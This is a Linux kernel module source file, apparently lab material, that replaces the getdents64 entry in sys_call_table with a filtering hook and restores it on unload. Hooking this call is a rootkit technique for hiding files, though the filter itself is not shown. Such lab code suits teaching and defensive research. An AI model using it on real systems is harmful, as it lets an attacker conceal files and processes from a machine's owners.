// SPDX-License-Identifier: GPL-2.0-only
/*
 * Replaces the entry of getdents64 in the table of system calls. In kernels that dispatch by a
 * switch (1e3ad78334a6) the change has no effect: they do not use the table.
 */
#include "lab.h"

#include <asm/unistd.h>

static void **table;
static long (*original)(const struct pt_regs *regs);

static long hooked(const struct pt_regs *regs)
{
	return lab_filter(regs, original(regs));
}

static int __init table_init(void)
{
	void *ours = hooked;

	table = (void **)lab_symbol("sys_call_table");
	if (!table)
		return -ENOENT;
	original = table[__NR_getdents64];
	lab_write(&table[__NR_getdents64], &ours, sizeof(ours));
	return 0;
}

static void __exit table_exit(void)
{
	lab_write(&table[__NR_getdents64], &original, sizeof(original));
	lab_drain();
}
module_init(table_init);
module_exit(table_exit);
